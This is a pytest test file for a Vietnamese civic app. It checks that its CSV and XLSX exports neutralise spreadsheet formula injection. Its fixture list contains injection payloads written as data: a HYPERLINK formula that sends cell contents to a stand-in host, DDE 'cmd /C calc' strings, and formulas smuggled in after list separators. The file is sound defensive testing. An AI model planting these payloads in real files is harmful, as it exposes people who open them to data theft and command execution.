"""Spreadsheet exports never carry a formula (issue 15 §10): with the Vietnamese `;` list
separator Excel split `Kinh Bắc;=1+1` and ran the second half. Every CSV cell is quoted, and
text that starts like a formula, or has one after any separator, is neutralised; XLSX text
cells are strings marked with Excel's quote prefix. Checked through the real export path (asked
over HTTP, written by the worker's cycle, downloaded by its owner) and over every writer."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from congdong.core.spreadsheets import formula_like, safe_text
from congdong.insights.exports.document import Document, Table
from congdong.insights.exports.render import render
from congdong.insights.models import Export, ExportState
from congdong.pages.models import Page
from congdong.worker.jobs import JOBS
from congdong.worker.loop import Loop
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

RUN_EXPORTS = next(job for job in JOBS if job.name == "run-exports")

# Text people type (page names, titles, citizens' words) that a spreadsheet would run.
DANGEROUS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")',
    "+84912000001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Kinh Bắc;=1+1",  # the Vietnamese list separator, then a formula
    "Kinh Bắc, =1+1",
    "Kinh Bắc\t+1",
    "Kinh Bắc|@SUM(A1)",
    "Dòng một\n=1+1",
]
HARMLESS = ["Phường Kinh Bắc", "Tiếp cận: ước tính", "a - b", "email@example.vn", "1;2"]


@pytest.fixture(autouse=True)
def roots(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PRIVATE_ROOT = tmp_path / "private"


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_recognised_and_neutralised(text):
    assert formula_like(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_as_written(text):
    assert not formula_like(text)
    assert safe_text(text) == text


def document(texts: list[str]) -> Document:
    return Document(
        title=texts[0],
        subtitle=texts[1:3],
        cards=[(text, 5, text) for text in texts],
        # A sheet's name is chosen by the code (core.spreadsheets.sheet_title); the dangerous
        # title heads the sheet as text.
        tables=[
            Table(
                texts[0],
                [texts[1], "Số"],
                [[text, -5] for text in texts],
                note=texts[2],
                sheet="Bảng",
            )
        ],
        definitions=[(text, text) for text in texts],
    )


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_csv_cell_is_quoted_and_no_text_cell_is_a_formula():
    data = render(document(DANGEROUS), "csv").decode("utf-8-sig")
    for line in csv.reader(io.StringIO(data)):
        for cell in line:
            if cell == "-5":
                continue  # a number written as a number: a value, not a formula
            assert not formula_like(cell) or cell.startswith("'"), cell
    # Quoted, so a separator inside a cell never splits it: every line is quoted fields only.
    for line in data.split("\r\n"):
        assert line == "" or (line.startswith('"') and line.endswith('"')), line
    assert '"-5"' in data  # numbers are quoted values, not text made safe
    for text in DANGEROUS:
        assert "'" + text in csv_cells(data.encode("utf-8"))


def test_every_xlsx_text_cell_that_looks_like_a_formula_is_marked_as_text():
    book = load_workbook(io.BytesIO(render(document(DANGEROUS + HARMLESS), "xlsx")))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"  # never a formula
                    assert cell.quotePrefix == formula_like(cell.value), cell.value
                    seen += formula_like(cell.value)
                elif isinstance(cell.value, int):
                    assert cell.value in (5, -5)  # numbers stay numbers
    assert seen >= len(DANGEROUS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_page_name_with_a_formula_is_exported_as_text(fmt, personas, pages):
    name = 'Trang Kinh Bắc;=HYPERLINK("http://x.example","Bấm")'
    Page.objects.filter(pk=pages.kinh_bac.pk).update(name=name)  # as an admin typed it
    analyst = personas["bacninh.thongke"]
    today = datetime.date.today().isoformat()
    client = client_for(analyst)
    started = client.post(
        "/lam-viec/thong-ke/xuat/",
        {"kind": "dashboard", "unit": pages.bac_ninh.unit_id, "format": fmt, "den": today},
    )
    assert started.status_code == 302
    Loop([RUN_EXPORTS]).run_once()
    export = Export.objects.get(user=analyst)
    assert export.state == ExportState.DONE, export.error
    response = client.get(f"/lam-viec/thong-ke/xuat/{export.pk}/tai-ve/")
    data = b"".join(response.streaming_content)
    if fmt == "csv":
        cells = csv_cells(data)
        assert "'" + name in cells and name not in cells
        assert f'"\'{name.replace(chr(34), chr(34) * 2)}"' in data.decode("utf-8-sig")
    else:
        book = load_workbook(io.BytesIO(data))
        found = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value == name
        ]
        assert found and all(cell.quotePrefix and cell.data_type == "s" for cell in found)
